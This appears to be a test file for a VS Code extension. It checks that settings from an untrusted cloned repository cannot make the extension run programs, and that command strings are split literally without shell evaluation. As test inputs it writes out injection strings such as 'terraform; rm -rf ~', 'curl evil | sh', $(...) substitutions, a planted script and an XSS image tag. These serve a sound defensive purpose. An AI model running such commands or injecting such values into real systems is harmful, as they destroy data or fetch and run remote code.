import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { detectEnvironment } from '../../../src/core/environment';
import { collectToolVersions, NOT_COLLECTED_UNTRUSTED, splitCommandLine, toolDisplayName } from '../../../src/host/toolVersions';

const repoRoot = path.join(__dirname, '..', '..', '..', '..');

interface Manifest {
  capabilities?: { untrustedWorkspaces?: { supported?: unknown; restrictedConfigurations?: string[]; description?: string } };
  contributes: { configuration: { properties: Record<string, { markdownDescription?: string; description?: string }> } };
}

function manifest(): Manifest {
  return JSON.parse(fs.readFileSync(path.join(repoRoot, 'package.json'), 'utf8')) as Manifest;
}

describe('a cloned repository cannot make the extension run a program', () => {
  let dir: string;
  const marker = () => path.join(dir, 'PWNED');

  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'deployment-records-shell-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('declares limited support for untrusted workspaces', () => {
    const untrusted = manifest().capabilities?.untrustedWorkspaces;
    assert.equal(untrusted?.supported, 'limited');
    assert.ok(untrusted?.description && untrusted.description.length > 20, 'restricted mode needs a description users can read');
  });

  it('ignores, in an untrusted workspace, every setting that runs or names a program or evaluates a pattern', () => {
    const { capabilities, contributes } = manifest();
    const restricted = new Set(capabilities?.untrustedWorkspaces?.restrictedConfigurations ?? []);
    assert.ok(restricted.has('deploymentRecords.toolVersionCommands'));
    // A regular expression from a cloned repository's settings could backtrack forever on the branch name.
    assert.ok(restricted.has('deploymentRecords.environmentRules'));
    for (const [key, schema] of Object.entries(contributes.configuration.properties)) {
      const text = `${key} ${schema.markdownDescription ?? ''} ${schema.description ?? ''}`;
      if (/command|executable|program|shell|script|regular expression|\bruns?\b/i.test(text)) {
        assert.ok(restricted.has(key), `${key} runs or names something but is not in restrictedConfigurations`);
      }
    }
    for (const key of restricted) {
      assert.ok(key in contributes.configuration.properties, `restrictedConfigurations names ${key}, which is not a setting`);
    }
  });

  it('splits a command line into arguments: shell syntax stays literal text', () => {
    assert.deepEqual(splitCommandLine('terraform; rm -rf ~'), ['terraform;', 'rm', '-rf', '~']);
    assert.deepEqual(splitCommandLine('terraform version && curl evil | sh'), ['terraform', 'version', '&&', 'curl', 'evil', '|', 'sh']);
    assert.deepEqual(splitCommandLine('$(touch x) `touch y`'), ['$(touch', 'x)', '`touch', 'y`']);
    assert.deepEqual(splitCommandLine('tool\nsecond line'), ['tool', 'second', 'line']);
    assert.deepEqual(splitCommandLine('   '), []);
    assert.deepEqual(splitCommandLine('"unterminated quote'), ['"unterminated', 'quote']);
  });

  it('runs nothing but the named program for commands full of shell syntax, in a trusted workspace', async () => {
    const node = `"${process.execPath}"`;
    const commands = [
      `${node} --version; touch ${marker()}`,
      `${node} --version && touch ${marker()}`,
      `${node} --version | touch ${marker()}`,
      `${node} --version > ${marker()}`,
      `$(touch ${marker()})`,
      `\`touch ${marker()}\``,
      `touch-missing-dr; touch ${marker()}`
    ];
    const versions = await collectToolVersions(commands, dir, true);
    assert.equal(fs.existsSync(marker()), false, 'a shell ran: the marker file exists');
    assert.deepEqual(fs.readdirSync(dir), [], 'something wrote into the working folder');
    // `--version;` is an option node does not know: that command fails cleanly. The next three
    // start node with odd arguments, and it prints its version and ignores them.
    assert.notEqual(versions[0].version, process.version);
    assert.deepEqual(versions.slice(1, 4).map((v) => v.version), Array(3).fill(process.version));
    assert.deepEqual(versions.slice(4).map((v) => v.version), ['not installed', 'not installed', 'not installed']);
  });

  it('runs nothing at all in an untrusted workspace, even a planted program', async () => {
    const planted = path.join(dir, 'planted.sh');
    fs.writeFileSync(planted, `#!/bin/sh\ntouch "${marker()}"\necho v6.6.6\n`, { mode: 0o755 });
    const versions = await collectToolVersions([planted, `${planted} version`], dir, false);
    assert.deepEqual(versions.map((v) => v.version), [NOT_COLLECTED_UNTRUSTED, NOT_COLLECTED_UNTRUSTED]);
    assert.equal(fs.existsSync(marker()), false);
  });

  it('names a tool with letters and digits only, whatever the setting holds', () => {
    assert.equal(toolDisplayName('<img src=x onerror=alert(1)>'), 'Imgsrcxonerroralert1');
    assert.equal(toolDisplayName('**bold**[link](javascript:x)'), 'Boldlinkjavascriptx');
    assert.equal(toolDisplayName('$(zap)'), 'Zap');
  });

  it('skips an environment rule whose pattern is not a valid regular expression', () => {
    const rules = [{ pattern: '(unclosed', environment: 'staging' }, { pattern: '/dev(/|$)', environment: 'development' }];
    assert.equal(detectEnvironment(rules, { projectPath: '/dev/app' }), 'development');
  });
});
